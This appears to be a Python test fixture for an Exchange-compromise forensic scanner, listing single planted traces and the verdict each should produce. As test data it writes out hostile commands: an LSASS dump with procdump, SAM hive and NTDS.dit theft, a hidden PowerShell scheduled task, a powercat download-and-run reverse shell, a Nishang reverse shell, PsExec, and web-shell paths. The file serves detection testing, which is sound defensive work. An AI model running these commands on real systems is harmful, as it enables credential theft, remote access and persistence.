"""The lone traces, by name."""

from postvakt.estate import regf_writer
from tests.strangers import logs, lone_files, pages
from tests.strangers.lone import (
    ANY,
    CLEAR_SINCE,
    COMPROMISED,
    GONE_TO,
    NIGHT,
    NOT_CLEAR,
    POWERSHELL,
    SERVER,
    SYSTEM32,
    UNKNOWN,
    WORKER,
    Lone,
    account_by_the_machine,
    anchor_without_port,
    command,
    control,
    directory_copied,
    hive,
    key,
    lsass_opened,
    mail_read,
    mail_read_by_the_machine,
    nothing,
    panel_cmdlet,
    placed,
    posted,
    product_pages,
    scripted,
    service,
    without,
    wrote,
)

DUMP = b"MDMP\x93\xa7\x00\x00" + bytes(4000)
ASPNET = "C/inetpub/wwwroot/aspnet_client"
WDIGEST = key("SecurityProviders", keys=(key("WDigest", regf_writer.dword("UseLogonCredential", 1)),))
SSP = key("Lsa", regf_writer.texts("Security Packages", "kerberos", "msv1_0", "mimilib"))
EULA = key(
    "ROOT",
    keys=(
        key(
            "Software",
            keys=(key("Sysinternals", keys=(key("ProcDump", regf_writer.dword("EulaAccepted", 1)),)),),
        ),
    ),
)
KEY_ONLY = pages.address_book(SERVER, "http://f/Kx8mQ2", "2f9c4a7e-0000-4000-8000-1234567890ab", NIGHT)
UM = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"

LONE: dict[str, Lone] = {
    "mail-read-and-iis-logs-alone": Lone(
        plant=mail_read, outcomes=NOT_CLEAR, says="1.6, 2.3.9, 2.6", exchange_logs=False
    ),
    "no-process-was-logged": Lone(plant=nothing, outcomes=UNKNOWN, says="6 Process", audited=False),
    "exchange-logs-deleted": Lone(
        plant=without("proxy", "text"), outcomes=UNKNOWN, blind_until=GONE_TO, says="2.3.5, 7.2"
    ),
    "iis-logs-deleted": Lone(
        plant=without("iis"), outcomes=UNKNOWN, blind_until=GONE_TO, says="2.3.5, 2.3.10"
    ),
    "mail-read-by-the-machine-in-ews-alone": Lone(
        plant=mail_read_by_the_machine, outcomes=ANY, seen=True, says="2.5 Ews, 2.6"
    ),
    "anchor-without-port": Lone(plant=anchor_without_port, outcomes=COMPROMISED, says="2.2"),
    "powershell-without-command-line": Lone(
        plant=command("", POWERSHELL, WORKER), outcomes=COMPROMISED, says="4.4, 2.6"
    ),
    "address-book-elsewhere": Lone(
        plant=lambda gathered: logs.book(
            gathered,
            NIGHT,
            "ErrorTrace",
            "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\hq7.aspx' needs to be removed",
        ),
        outcomes=COMPROMISED,
        says="2.2",
    ),
    "key-only-address-book": Lone(
        plant=placed(f"{ASPNET}/pz0w.aspx", KEY_ONLY), outcomes=COMPROMISED, says="1.7, 2.3.3"
    ),
    "worker-writes-page": Lone(
        plant=wrote(WORKER, "C:\\inetpub\\wwwroot\\aspnet_client\\qq1.aspx"),
        outcomes=COMPROMISED,
        says="2.6",
        sysmon=True,
    ),
    "um-writes-page": Lone(
        plant=wrote(UM, "C:\\inetpub\\wwwroot\\aspnet_client\\h9.aspx"),
        outcomes=COMPROMISED,
        says="2.6",
        sysmon=True,
    ),
    "handler-in-owa-auth": Lone(plant=posted("/owa/auth/lang.ashx"), outcomes=COMPROMISED, says="2.7"),
    "product-names-in-the-other-folder": Lone(
        plant=posted("/owa/auth/TimeoutLogout.aspx", "/ecp/auth/TimeoutLogoff.aspx"),
        outcomes=COMPROMISED,
        says="2.7",
    ),
    "export-into-a-web-folder": Lone(
        plant=panel_cmdlet(
            "New-MailboxExportRequest",
            '-Mailbox "a" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\k.aspx"',
        ),
        outcomes=COMPROMISED,
        says="2.6",
    ),
    "procdump": Lone(
        plant=command(
            "C:\\windows\\temp\\pd64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass",
            "C:\\windows\\temp\\pd64.exe",
        ),
        outcomes=COMPROMISED,
        says="4.1",
    ),
    "hives-saved": Lone(
        plant=command("reg  save hklm\\sam C:\\ProgramData\\s.hiv", f"{SYSTEM32}reg.exe"),
        outcomes=COMPROMISED,
        says="6",
    ),
    "directory-copied-by-command": Lone(
        plant=command(
            'ntdsutil "ac i ntds" ifm "create full C:\\ProgramData\\n" q q', f"{SYSTEM32}ntdsutil.exe"
        ),
        outcomes=COMPROMISED,
        says="6",
    ),
    "directory-copied-in-the-application-log": Lone(
        plant=directory_copied, outcomes=NOT_CLEAR, says="6 NTDS.dit"
    ),
    "administrator-removed": Lone(
        plant=command(
            'net group "Exchange Organization administrators" administrator /del /domain',
            f"{SYSTEM32}net.exe",
        ),
        outcomes=COMPROMISED,
        says="4.2",
    ),
    "lsass-opened": Lone(plant=lsass_opened, outcomes=COMPROMISED, says="6", sysmon=True),
    "dump-by-name": Lone(
        plant=placed("C/Windows/Temp/lsass_210304.dmp", DUMP), outcomes=COMPROMISED, says="6"
    ),
    "dump-as-picture": Lone(
        plant=placed(f"{ASPNET}/logo.gif", DUMP), outcomes=NOT_CLEAR, says="6 LSASS dump file"
    ),
    "cabinet-of-hives": Lone(
        plant=placed(f"{ASPNET}/s.cab", lone_files.CABINET), outcomes=COMPROMISED, says="2.3.14"
    ),
    "wdigest-on": Lone(plant=control(WDIGEST), outcomes=ANY, seen=True, says="6 WDigest", hives=False),
    "security-package-of-mimikatz": Lone(plant=control(SSP), outcomes=NOT_CLEAR, says="6 SSP", hives=False),
    "procdump-licence-of-system": Lone(
        plant=hive("DEFAULT", EULA), outcomes=ANY, seen=True, says="6 Sysinternals EULA", hives=False
    ),
    "account-by-the-machine": Lone(plant=account_by_the_machine, outcomes=NOT_CLEAR, says="6 Accounts"),
    "task-of-the-campaign": Lone(
        plant=placed("C/Windows/System32/Tasks/VSPerfMon", lone_files.TASK),
        outcomes=NOT_CLEAR,
        says="4.2, 6 Tasks",
    ),
    "task-every-45-minutes": Lone(
        plant=command(
            'schtasks  /create /ru system /sc MINUTE /mo 45 /tn "Winnet" /tr "powershell -w hidden -ep bypass" /F',
            f"{SYSTEM32}schtasks.exe",
        ),
        outcomes=NOT_CLEAR,
        says="4.3, 6 Tasks",
    ),
    "service-of-dearcry": Lone(
        plant=service("msupdate", "C:\\Windows\\Temp\\m.exe"), outcomes=COMPROMISED, says="4.4"
    ),
    "module-of-iis": Lone(
        plant=placed("C/Windows/System32/inetsrv/config/applicationHost.config", lone_files.MODULE),
        outcomes=NOT_CLEAR,
        says="4.4 IIS backdoors, 6",
    ),
    "powercat": Lone(
        plant=scripted(
            "IEX (New-Object System.Net.Webclient).DownloadString('https://203.0.113.5/powercat.ps1'); "
            "powercat -c 203.0.113.5 -p 443 -e cmd"
        ),
        outcomes=NOT_CLEAR,
        says="4.1",
    ),
    "nishang": Lone(
        plant=scripted("Invoke-PowerShellTcpOneLine -Reverse -IPAddress 203.0.113.5 -Port 443"),
        outcomes=NOT_CLEAR,
        says="4.1",
    ),
    "psexec-to-another": Lone(
        plant=command(
            "PsExec.exe \\\\192.0.2.5 -s -accepteula cmd.exe /c whoami", "C:\\Windows\\Temp\\PsExec.exe"
        ),
        outcomes=COMPROMISED,
        says="6",
    ),
    "error-report-of-the-panel": Lone(
        plant=placed(lone_files.REPORT_AT, lone_files.REPORT), outcomes=ANY, seen=True, says="2.3.11"
    ),
    "loot-in-programdata": Lone(
        plant=placed("C/ProgramData/it.zip", b"PK\x03\x04" + bytes(200)), outcomes=NOT_CLEAR, says="2.2, 4.2"
    ),
    "only-the-products-own-pages": Lone(plant=product_pages, outcomes=CLEAR_SINCE, says="2.7"),
}
